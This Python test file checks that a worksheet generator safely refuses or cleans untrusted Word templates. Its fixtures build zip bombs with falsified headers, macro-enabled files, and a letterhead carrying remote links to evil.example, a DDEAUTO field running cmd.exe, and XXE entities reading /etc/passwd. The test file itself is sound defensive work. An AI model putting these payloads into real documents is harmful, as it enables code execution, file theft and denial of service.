"""A Word template (--docx-template) is a file from a stranger: bounded, checked, cleaned.

Every file here is built by the test itself: zip bombs from a deflate stream of zeros
(repeated blocks, so 2 GB cost a second to make and 2 MB to store), zips whose headers
lie (sizes patched in the local and central directory headers), macro files, an OLE file,
plain zips, and templates that point outside themselves or declare external entities.
"""

from __future__ import annotations

import io
import json
import os
import re
import socket
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import docx
import pytest
from docx.shared import Mm
from lxml import etree

from conftest import run_cli, soffice_or_skip
from qbank import limits
from qbank.errors import QbankError
from qbank.exporters import ExportOptions, get_exporter, registry

registry()  # load every format before importing the Word exporter's modules directly

from qbank.bank import load_bank  # noqa: E402
from qbank.exporters.word import template_check  # noqa: E402
from qbank.exporters.word.package import BaseDocument  # noqa: E402
from qbank.exporters.word.template_check import check_template  # noqa: E402
from qbank.generator import generate  # noqa: E402

MB = 1 << 20
SRC = Path(__file__).resolve().parents[1] / "src" / "qbank"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
SECRET = "QBANK-SECRET-7f3a9c"  # the text of a local file an entity tries to read


# --- building zips by hand ------------------------------------------------------------


def deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(data) + packer.flush()


def deflated_zeros(total: int, chunk: int = MB) -> tuple[bytes, int]:
    """A raw deflate stream of ``total`` zero bytes (about total/1000 long) and its CRC."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    first = packer.compress(bytes(chunk)) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(chunk)) + packer.flush(zlib.Z_FULL_FLUSH)
    stream = first + block * (total // chunk - 1) + packer.flush()
    crc, zeros = 0, bytes(chunk)
    for _ in range(total // chunk):
        crc = zlib.crc32(zeros, crc)
    return stream, crc


class Member:
    """One zip entry as written: the sizes are the ones the headers *declare*."""

    def __init__(
        self,
        name: str,
        data: bytes = b"",
        *,
        raw: bytes | None = None,
        crc: int | None = None,
        size: int | None = None,
        packed: int | None = None,
        stored: bool = False,
    ) -> None:
        self.name = name
        self.raw = raw if raw is not None else (data if stored else deflate(data))
        self.method = 0 if stored else 8
        self.crc = crc if crc is not None else zlib.crc32(data)
        self.size = size if size is not None else len(data)
        self.packed = packed if packed is not None else len(self.raw)


def write_zip(path: Path, members: list[Member], *, declared_count: int | None = None) -> Path:
    with open(path, "wb") as out:
        directory = b""
        for m in members:
            offset, name = out.tell(), m.name.encode()
            out.write(
                struct.pack(
                    "<4s5H3L2H",
                    b"PK\3\4",
                    20,
                    0,
                    m.method,
                    0,
                    0x21,
                    m.crc,
                    m.packed,
                    m.size,
                    len(name),
                    0,
                )
                + name
                + m.raw
            )
            directory += (
                struct.pack(
                    "<4s6H3L5H2L",
                    b"PK\1\2",
                    20,
                    20,
                    0,
                    m.method,
                    0,
                    0x21,
                    m.crc,
                    m.packed,
                    m.size,
                    len(name),
                    0,
                    0,
                    0,
                    0,
                    0,
                    offset,
                )
                + name
            )
        count = len(members) if declared_count is None else declared_count
        out.write(
            directory
            + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(directory), out.tell(), 0)
        )
    return path


def zip_of(path: Path, files: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in files.items():
            target.writestr(name, data)
    return path


PNG = b"\x89PNG\r\n\x1a\n" + b"".join(
    struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    for kind, body in (
        (b"IHDR", struct.pack(">2I5B", 1, 1, 8, 2, 0, 0, 0)),
        (b"IDAT", zlib.compress(b"\0\xff\0\0")),
        (b"IEND", b""),
    )
)


def letterhead_parts() -> dict[str, bytes]:
    """The parts of a teacher's template: A4, a letterhead with a logo in the header."""
    document = docx.Document()
    section = document.sections[0]
    section.page_width, section.page_height = Mm(210), Mm(297)
    paragraph = section.header.paragraphs[0]
    paragraph.text = "Springfield High School "
    paragraph.add_run().add_picture(io.BytesIO(PNG), width=Mm(10))
    document.add_paragraph("TEMPLATE BODY TEXT")
    buffer = io.BytesIO()
    document.save(buffer)
    with zipfile.ZipFile(buffer) as source:
        return {info.filename: source.read(info) for info in source.infolist()}


def header_name(parts: dict[str, bytes]) -> str:
    return next(
        n for n, data in parts.items() if n.startswith("word/header") and b"Springfield" in data
    )


def add_relationships(parts: dict[str, bytes], rels_name: str, *rels: tuple[str, str, str]):
    """Add external relationships (id, type, target) to a .rels part, creating it if need be."""
    root = etree.fromstring(parts.get(rels_name, f'<Relationships xmlns="{RELS_NS}"/>'.encode()))
    for rid, kind, target in rels:
        etree.SubElement(
            root,
            f"{{{RELS_NS}}}Relationship",
            Id=rid,
            Type=RT + kind,
            Target=target,
            TargetMode="External",
        )
    parts[rels_name] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)


def insert_xml(parts: dict[str, bytes], name: str, before: bytes, xml: bytes) -> None:
    assert before in parts[name]
    parts[name] = parts[name].replace(before, xml + before, 1)


# --- the zip bomb of the issue, checked in a fresh process -----------------------------

MEASURE = r"""
import json, resource, sys, time
from qbank.errors import QbankError
from qbank.exporters.word.template_check import check_template
start = time.perf_counter()
try:
    check_template(sys.argv[1])
    message = None
except QbankError as exc:
    message = str(exc)
seconds = time.perf_counter() - start
peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
peak_mb = peak / (1 << 20) if sys.platform == "darwin" else peak / 1024
print(json.dumps({"message": message, "seconds": seconds, "peak_mb": peak_mb}))
"""


#: The whole CLI, measured the same way (its message goes to stderr).
MEASURE_CLI = r"""
import atexit, json, resource, sys, time
start = time.perf_counter()

def report():
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    peak_mb = peak / (1 << 20) if sys.platform == "darwin" else peak / 1024
    print(json.dumps({"seconds": time.perf_counter() - start, "peak_mb": peak_mb}))

atexit.register(report)
from qbank.cli import main
sys.argv = ["qbank", *sys.argv[1:]]
main()
"""
#: A process's peak memory (ru_maxrss) counts the memory of the process that started it,
#: as it was when it started it (fork copies the high-water mark): a small Python starts
#: the measured one, so that the test process's own size does not count.
LAUNCH = "import subprocess, sys; sys.exit(subprocess.run(sys.argv[1:]).returncode)"


def measured(script: str, *args: str) -> tuple[dict, subprocess.CompletedProcess]:
    done = subprocess.run(
        [sys.executable, "-c", LAUNCH, sys.executable, "-c", script, *map(str, args)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    return json.loads(done.stdout.splitlines()[-1]), done


def measured_check(path: Path) -> dict:
    """check_template in a fresh Python: its message, time, and the process's peak memory."""
    result, done = measured(MEASURE, path)
    assert done.returncode == 0, done.stderr
    return result


@pytest.fixture(scope="module")
def zeros_2gb():
    return deflated_zeros(2048 * MB)


def bomb_template(path: Path, zeros, *, lie: bool = False, lie_packed: bool = False) -> Path:
    """A real template whose word/styles.xml unpacks to 2 GB of zeros; with ``lie`` the
    headers say 1,000 bytes (and with ``lie_packed`` claim 1,000 packed bytes too)."""
    stream, crc = zeros
    members = []
    for name, data in letterhead_parts().items():
        if name == "word/styles.xml":
            members.append(
                Member(
                    name,
                    raw=stream,
                    crc=crc,
                    size=1000 if lie else 2048 * MB,
                    packed=1000 if lie_packed else len(stream),
                )
            )
        else:
            members.append(Member(name, data))
    return write_zip(path, members)


def test_a_2gb_zip_bomb_is_refused_in_under_a_second_and_200mb(tmp_path, zeros_2gb):
    bomb = bomb_template(tmp_path / "letterhead.docx", zeros_2gb)
    assert 1.5 * MB < bomb.stat().st_size < 2.5 * MB
    result = measured_check(bomb)
    assert result["message"] == (
        f"{bomb}: the Word template would unpack to more than 50 MB (a zip bomb?); qbank did "
        "not unpack it. A letterhead template is far smaller: use one saved by Word"
    )
    assert result["seconds"] < 1.0, result
    assert result["peak_mb"] < 200, result


def test_the_cli_refuses_the_bomb_within_200mb(tmp_path, zeros_2gb):
    bomb = bomb_template(tmp_path / "letterhead.docx", zeros_2gb)
    out = tmp_path / "out"
    result, done = measured(
        MEASURE_CLI,
        "generate",
        "-q",
        "--seed",
        "1",
        "-f",
        "docx",
        "-o",
        out,
        "--docx-template",
        bomb,
    )
    assert done.returncode == 1
    assert done.stderr == (
        f"Error: {bomb}: the Word template would unpack to more than 50 MB "
        "(a zip bomb?); qbank did not unpack it. A letterhead template is "
        "far smaller: use one saved by Word\n"
    )
    assert result["peak_mb"] < 200, result
    assert not list(out.glob("*.docx"))


@pytest.mark.parametrize("lie_packed", [False, True], ids=["size", "size-and-packed-size"])
def test_headers_that_understate_the_sizes_are_stopped_at_the_limit(
    tmp_path, zeros_2gb, lie_packed
):
    liar = bomb_template(tmp_path / "liar.docx", zeros_2gb, lie=True, lie_packed=lie_packed)
    with zipfile.ZipFile(liar) as archive:  # what the headers claim
        assert archive.getinfo("word/styles.xml").file_size == 1000
    result = measured_check(liar)
    assert result["message"] == (
        f"{liar}: the part 'word/styles.xml' of the Word template would unpack to more than "
        "20 MB (a zip bomb?); qbank did not unpack it. A letterhead template is far "
        "smaller: use one saved by Word"
    )
    assert result["seconds"] < 1.0, result
    assert result["peak_mb"] < 200, result


def test_unpacking_stops_at_the_limit_whatever_the_headers_say(tmp_path, monkeypatch):
    """A part of 5 MB that claims 1 KB, with the part limit lowered to 1 MB: no more than
    the limit (and one step of the loop) ever comes out of the decompressor."""
    stream, crc = deflated_zeros(5 * MB)
    members = [Member(n, d) for n, d in letterhead_parts().items()]
    members.append(Member("word/media/big.bin", raw=stream, crc=crc, size=1024))
    liar = write_zip(tmp_path / "liar.docx", members)
    produced: list[int] = []  # bytes out of each decompressor
    real = zlib.decompressobj

    class Counting:
        def __init__(self, *args):
            self.inflater = real(*args)
            produced.append(0)

        def decompress(self, data, limit):
            piece = self.inflater.decompress(data, limit)
            produced[-1] += len(piece)
            return piece

        def __getattr__(self, name):
            return getattr(self.inflater, name)

    monkeypatch.setattr(template_check.zlib, "decompressobj", Counting)
    monkeypatch.setattr(limits, "MAX_TEMPLATE_PART_BYTES", MB)
    with pytest.raises(
        QbankError,
        match=r"the part 'word/media/big.bin' of the Word template "
        r"would unpack to more than 1 MB \(a zip bomb\?\)",
    ):
        check_template(liar)
    assert MB < produced[-1] <= MB + 64 * 1024  # the liar's part; the others are small


def test_the_directory_is_checked_before_anything_is_unpacked(tmp_path, zeros_2gb, monkeypatch):
    bomb = bomb_template(tmp_path / "bomb.docx", zeros_2gb)

    def no_unpacking(*args, **kwargs):
        raise AssertionError("something was unpacked")

    monkeypatch.setattr(template_check.zlib, "decompressobj", no_unpacking)
    monkeypatch.setattr(docx, "Document", no_unpacking)
    with pytest.raises(QbankError, match="zip bomb"):
        check_template(bomb)
    with pytest.raises(QbankError, match="zip bomb"):
        BaseDocument(bomb, title="t", subject="", timestamp=0)


def test_each_declared_limit(tmp_path):
    parts = letterhead_parts()
    honest = [Member(n, d) for n, d in parts.items()]
    # one part over 20 MB, the whole under 50 MB
    big, crc = deflated_zeros(25 * MB)
    one_big = write_zip(
        tmp_path / "big.docx",
        [*honest, Member("word/media/image9.png", raw=big, crc=crc, size=25 * MB)],
    )
    with pytest.raises(
        QbankError,
        match=r"the part 'word/media/image9.png' of the Word "
        r"template would unpack to more than 20 MB \(a zip bomb",
    ):
        check_template(one_big)
    # 5 MB packed 1000 times smaller
    dense, crc = deflated_zeros(5 * MB)
    ratio = write_zip(
        tmp_path / "ratio.docx",
        [*honest, Member("word/media/image9.png", raw=dense, crc=crc, size=5 * MB)],
    )
    with pytest.raises(
        QbankError,
        match=r"would unpack to more than 100 times its packed "
        r"size \(a zip bomb\?\)",
    ):
        check_template(ratio)
    # more parts than the limit, said honestly, or hidden behind a lying end record
    many = honest + [Member(f"customXml/item{k}.xml", b"<a/>") for k in range(600)]
    for declared in (None, 5):
        path = write_zip(tmp_path / f"many-{declared}.docx", many, declared_count=declared)
        with pytest.raises(QbankError, match="has more than 500 parts"):
            check_template(path)


def test_limits_are_read_when_a_template_is_checked(tmp_path, monkeypatch):
    template = zip_of(tmp_path / "letterhead.docx", letterhead_parts())
    assert check_template(template).data
    monkeypatch.setattr(limits, "MAX_TEMPLATE_BYTES", 1000)
    with pytest.raises(QbankError, match="larger than 1,000 bytes"):
        check_template(template)
    monkeypatch.setattr(limits, "MAX_TEMPLATE_BYTES", 20 * MB)
    monkeypatch.setattr(limits, "MAX_TEMPLATE_UNPACKED_BYTES", 10_000)
    with pytest.raises(QbankError, match="more than 10,000 bytes"):
        check_template(template)


def test_only_regular_files_are_read(tmp_path):
    fifo = tmp_path / "pipe.docx"
    os.mkfifo(fifo)
    with pytest.raises(QbankError, match="not a file"):
        check_template(fifo)  # and does not wait for a writer
    if Path("/dev/zero").exists():
        with pytest.raises(QbankError, match="not a file"):
            check_template("/dev/zero")


def test_a_damaged_part_is_refused(tmp_path):
    members = [Member(n, d) for n, d in letterhead_parts().items()]
    members[0].crc ^= 1
    with pytest.raises(QbankError, match="damaged or is not a file Word saved"):
        check_template(write_zip(tmp_path / "crc.docx", members))


# --- macro files and foreign files: each says what it is ------------------------------


def macro_parts() -> dict[str, bytes]:
    parts = letterhead_parts()
    parts["[Content_Types].xml"] = (
        parts["[Content_Types].xml"]
        .replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        )
        .replace(
            b"</Types>",
            b'<Default Extension="bin" ContentType="application/vnd.ms-office.'
            b'vbaProject"/></Types>',
        )
    )
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    return parts


FOREIGN = {
    "macros.docm": (
        lambda p: zip_of(p, macro_parts()),
        "the Word template is a macro-enabled Word document (.docm): qbank does "
        "not use templates with macros, so that none reach the worksheets. Open "
        "it in Word and save it as a Word Document (.docx) or Word Template "
        "(.dotx)",
    ),
    "macros.dotm": (
        lambda p: zip_of(p, macro_parts()),
        "the Word template is a macro-enabled Word template (.dotm)",
    ),
    "renamed-docm.docx": (
        lambda p: zip_of(p, macro_parts()),
        "the Word template holds macros ('word/vbaProject.bin') although "
        "its name ends in '.docx': it is a macro-enabled Word file (.docm) "
        "under another name. qbank does not use templates with macros: "
        "open it in Word and save it as a Word Document (.docx), which "
        "leaves the macros out",
    ),
    "macro-type.docx": (
        lambda p: zip_of(p, {n: d for n, d in macro_parts().items() if not n.endswith(".bin")}),
        "the Word template is a macro-enabled Word file (.docm or .dotm) "
        "although its name ends in '.docx'",
    ),
    "ole.docx": (
        lambda p: p.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4088)),
        "the Word template is an old-format Office file (a Word 97-2003 .doc or "
        ".dot, or a document protected with a password), not a .docx or .dotx "
        "file: open it in Word and save it as a Word Document (.docx), without a "
        "password",
    ),
    "plain.docx": (
        lambda p: zip_of(p, {"notes.txt": b"hello", "logo.png": PNG}),
        "the Word template is a plain zip archive (2 files), not a Word document: "
        "a .docx or a .dotx is a zip too, but one with [Content_Types].xml and "
        "word/document.xml inside. Open it in Word and save it as a Word "
        "Document (.docx)",
    ),
    "sheet.docx": (
        lambda p: zip_of(
            p, {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
        ),
        "the Word template is an Excel workbook, not a Word document",
    ),
    "text.odt": (
        lambda p: zip_of(
            p,
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b"<x/>",
                "META-INF/manifest.xml": b"<m/>",
            },
        ),
        "the Word template is an OpenDocument file (LibreOffice or OpenOffice)",
    ),
    "scan.docx": (lambda p: p.write_bytes(b"%PDF-1.7\n"), "the Word template is a PDF file"),
    "notes.docx": (
        lambda p: p.write_text("just text"),
        "the Word template is a file of another kind, not a .docx or .dotx file",
    ),
}


@pytest.mark.parametrize("name", FOREIGN)
def test_foreign_and_macro_files_are_refused_saying_what_they_are(tmp_path, name):
    make, expected = FOREIGN[name]
    path = tmp_path / name
    make(path)
    with pytest.raises(QbankError) as caught:
        check_template(path)
    assert str(caught.value).startswith(f"{path}: {expected}")
    assert caught.value.file == str(path)


def test_each_refusal_has_its_own_message(tmp_path):
    messages = set()
    for name, (make, _) in FOREIGN.items():
        make(tmp_path / name)
        with pytest.raises(QbankError) as caught:
            check_template(tmp_path / name)
        messages.add(caught.value.message)
    assert len(messages) == len(FOREIGN)


# --- nothing external reaches the outputs ----------------------------------------------


def hostile_letterhead(path: Path) -> Path:
    """A letterhead that attaches a remote template, links remote pictures, data and a
    web page, and has fields that fetch a picture and start a program."""
    parts = letterhead_parts()
    header = header_name(parts)
    header_rels = header.replace("word/", "word/_rels/") + ".rels"
    add_relationships(
        parts,
        "word/_rels/settings.xml.rels",
        ("rIdEvilTemplate", "attachedTemplate", "http://evil.example/letterhead.dotm"),
    )
    insert_xml(
        parts,
        "word/settings.xml",
        b"<w:defaultTabStop",
        f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdEvilTemplate"/>'.encode(),
    )
    add_relationships(
        parts,
        header_rels,
        ("rIdPixel", "image", "http://evil.example/pixel.png"),
        ("rIdOnlyLinked", "image", "https://evil.example/logo.png"),
        ("rIdSite", "hyperlink", "https://evil.example/school"),
    )
    add_relationships(
        parts,
        "word/_rels/document.xml.rels",
        ("rIdData", "oleObject", "file://///evil.example/share/marks.xlsx"),
    )
    # the logo: linked *and* embedded; a copy that is only linked; a link; two fields
    xml = parts[header].decode()
    drawing = re.search(r"<w:drawing>.*?</w:drawing>", xml, re.S).group(0)
    assert 'r:embed="' in drawing
    linked_too = drawing.replace('r:embed="', 'r:link="rIdPixel" r:embed="')
    only_linked = re.sub(r'r:embed="[^"]*"', 'r:link="rIdOnlyLinked"', drawing)
    xml = xml.replace(drawing, linked_too)
    extra = (
        f"<w:p><w:r>{only_linked}</w:r></w:p>"
        '<w:p><w:hyperlink r:id="rIdSite"><w:r><w:t>our website</w:t></w:r></w:hyperlink>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '"/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Motto</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        "<w:fldSimple w:instr=' INCLUDEPICTURE \"http://evil.example/track.gif\" \\d'>"
        "<w:r><w:t>Crest</w:t></w:r></w:fldSimple>"
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    parts[header] = xml.replace("</w:hdr>", extra + "</w:hdr>").encode()
    return zip_of(path, parts)


class FolderSink:
    def __init__(self, folder: Path) -> None:
        self.folder = folder
        folder.mkdir(parents=True, exist_ok=True)
        self.warnings: list[str] = []

    def path(self, name: str) -> Path:
        return self.folder / name

    def open(self, name: str, mode: str = "w"):
        return open(self.folder / name, mode, **({} if "b" in mode else {"encoding": "utf-8"}))

    def warn(self, message: str) -> None:
        self.warnings.append(message)


def export_with(template: Path, out: Path) -> tuple[list[Path], list[str]]:
    sink = FolderSink(out)
    exporter, options = get_exporter("docx"), ExportOptions.of(docx_template=template, timestamp=0)
    exporter.check(options, sink.warn)  # what the pipeline does once per run
    exporter.write(generate(load_bank(), 2, 3), sink, options)
    return sorted(out.glob("*.docx")), sink.warnings


def package_parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def check_nothing_external(path: Path) -> None:
    parts = package_parts(path)
    for name, data in parts.items():
        assert b"evil.example" not in data, name
        if not name.endswith(".rels"):
            continue
        rels = etree.fromstring(data)
        ids = set()
        for rel in rels:
            assert rel.get("TargetMode", "Internal") != "External", (name, rel.attrib)
            assert not rel.get("Type").endswith("/attachedTemplate")
            ids.add(rel.get("Id"))
        # every reference of the part names a relationship that is still there
        source = name.replace("_rels/", "").removesuffix(".rels")
        if source in parts:
            used = set(re.findall(rb'\br:(?:id|embed|link)="([^"]*)"', parts[source]))
            assert {u.decode() for u in used} <= ids, (source, used, ids)
    assert b"attachedTemplate" not in parts["word/settings.xml"]
    texts = b"".join(d for n, d in parts.items() if n.startswith("word/header"))
    assert b"Springfield High School" in texts and b"our website" in texts
    assert b"DDE" not in texts and b"INCLUDEPICTURE" not in texts
    assert b"Motto" in texts and b"Crest" in texts  # the fields' last results stay, as text
    assert b" PAGE " in texts  # harmless fields stay fields


@pytest.fixture(scope="module")
def hostile_outputs(tmp_path_factory):
    folder = tmp_path_factory.mktemp("external")
    template = hostile_letterhead(folder / "letterhead.docx")
    files, warnings = export_with(template, folder / "out")
    return template, files, warnings


def test_external_references_never_reach_the_outputs(hostile_outputs):
    template, files, warnings = hostile_outputs
    assert [f.name for f in files] == [
        "open-vs-closed-ai-answer-key.docx",
        "open-vs-closed-ai-worksheets.docx",
    ]
    for path in files:
        check_nothing_external(path)
        document = docx.Document(str(path))  # still a Word document, letterhead and all
        assert "Springfield High School" in document.sections[0].header.paragraphs[0].text
        assert (
            round(min(document.sections[0].page_width.mm, document.sections[0].page_height.mm))
            == 210
        )
    assert warnings == [
        f"{template}: the Word template points to files outside it, which Word could fetch "
        "when a worksheet is opened; qbank left them out of the worksheets and the answer "
        "key: linked data (file://///evil.example/share/marks.xlsx), a "
        "picture (http://evil.example/pixel.png), a picture (https://evil.example/logo.png), "
        "a link (https://evil.example/school), an attached template "
        "(http://evil.example/letterhead.dotm)",
        f"{template}: the Word template has fields that fetch files or start programs "
        "(INCLUDEPICTURE, DDEAUTO); qbank kept only their text",
    ]


@pytest.mark.libreoffice
def test_cleaned_outputs_open_in_libreoffice(hostile_outputs, tmp_path):
    exe = soffice_or_skip()
    _, files, _ = hostile_outputs
    worksheets = files[1]
    profile = tmp_path / "lo-profile"
    subprocess.run(
        [
            exe,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(worksheets),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    pdf = tmp_path / (worksheets.stem + ".pdf")
    assert pdf.exists()
    text = subprocess.run(
        ["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "Springfield High School" in text and "Motto" in text


def test_the_cli_warns_once_and_writes_clean_files(tmp_path):
    template = hostile_letterhead(tmp_path / "letterhead.dotx")
    out = tmp_path / "out"
    result = run_cli(
        "generate", "-n", "2", "--seed", "1", "-f", "docx", "-o", out, "--docx-template", template
    )
    assert result.output.count("Warning: ") == 2
    assert "an attached template (http://evil.example/letterhead.dotm)" in result.output
    for path in out.glob("*.docx"):
        check_nothing_external(path)


# --- entities and network stay off ------------------------------------------------------


def test_external_entities_are_never_resolved(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    doctype = (
        f'<!DOCTYPE w:styles SYSTEM "http://127.0.0.1:{port}/dtd" ['
        '<!ENTITY passwd SYSTEM "file:///etc/passwd">'
        f'<!ENTITY secret SYSTEM "{secret.as_uri()}">'
        f'<!ENTITY remote SYSTEM "http://127.0.0.1:{port}/x">'
        '<!ENTITY school "Springfield">]>'
    ).encode()
    parts = letterhead_parts()
    for name in ("word/styles.xml", header_name(parts)):
        declaration_end = parts[name].index(b"?>") + 2
        data = parts[name][:declaration_end] + doctype + parts[name][declaration_end:]
        parts[name] = data.replace(
            b"Springfield High School", b"&school; High School &passwd;&secret;&remote;"
        ).replace(b"</w:docDefaults>", b"</w:docDefaults><w:x>&passwd;&secret;&remote;</w:x>")
    template = zip_of(tmp_path / "letterhead.docx", parts)
    try:
        files, warnings = export_with(template, tmp_path / "out")
        result = run_cli(
            "generate", "-n", "1", "-f", "docx", "-o", tmp_path / "cli", "--docx-template", template
        )
        files += list((tmp_path / "cli").glob("*.docx"))
        with pytest.raises(BlockingIOError):
            listener.accept()  # nobody called
    finally:
        listener.close()
    passwd = Path("/etc/passwd").read_bytes() if Path("/etc/passwd").exists() else b""
    first_line = passwd.splitlines()[0] if passwd else b"root:x:0:0"
    assert len(files) == 4
    for path in files:
        for name, data in package_parts(path).items():
            assert SECRET.encode() not in data and first_line not in data, name
            assert b"<!DOCTYPE" not in data and b"&passwd;" not in data, name
        docx.Document(str(path))
    assert warnings == [
        f"{template}: the Word template's word/styles.xml, {header_name(parts)} declare "
        "entities (<!DOCTYPE>), which Word never writes and which can be used to read "
        "files on this computer; qbank ignored them"
    ]
    assert SECRET not in result.output and "declare entities" in result.output


def test_every_xml_qbank_reads_goes_through_the_safe_parser():
    """Only qbank.safe_xml calls an XML parser; the rest of qbank calls qbank.safe_xml."""
    parsing = re.compile(
        r"\b(?:etree\.(?:fromstring|XML|XMLParser|parse|iterparse|"
        r"XMLPullParser|HTML|HTMLParser|XMLID)\s*\(|xml\.etree|xml\.dom|"
        r"xml\.sax|minidom|expat|from lxml\.etree import [^\n]*\b(?:fromstring|"
        r"parse|XML|XMLParser|iterparse)\b)"
    )
    offenders = [
        f"{path.relative_to(SRC)}: {match.group(0)}"
        for path in SRC.rglob("*.py")
        if path.name != "safe_xml.py"
        for match in parsing.finditer(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
    from qbank import safe_xml

    root = safe_xml.parse(b'<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>')
    assert "root:" not in "".join(root.itertext())


# --- what a teacher sees ----------------------------------------------------------------


def test_the_cli_says_what_is_wrong_and_writes_nothing(tmp_path, zeros_2gb):
    FOREIGN["ole.docx"][0](tmp_path / "ole.docx")
    cases = {
        bomb_template(tmp_path / "bomb.docx", zeros_2gb): "would unpack to more than 50 MB",
        tmp_path / "ole.docx": "is an old-format Office file",
    }
    for template, words in cases.items():
        out = tmp_path / f"out-{template.stem}"
        result = run_cli("generate", "-f", "docx", "-o", out, "--docx-template", template, expect=1)
        assert f"Error: {template}: the Word template " in result.output
        assert words in result.output and "Traceback" not in result.output
        assert not list(out.glob("*.docx"))


def test_a_bad_template_is_refused_before_any_version_is_drawn(tmp_path, monkeypatch):
    from conftest import run_cli
    from qbank import generator

    template = tmp_path / "plain.docx"
    zip_of(template, {"notes.txt": b"hello", "logo.png": PNG})
    built = []
    original = generator.build_variant
    monkeypatch.setattr(
        generator, "build_variant", lambda *args: built.append(1) or original(*args)
    )
    result = run_cli(
        "generate",
        "-f",
        "docx",
        "--docx-template",
        template,
        "-n",
        "3",
        "-o",
        tmp_path / "out",
        expect=1,
    )
    assert "the Word template is a plain zip archive" in result.output
    assert built == [] and not (tmp_path / "out").exists()
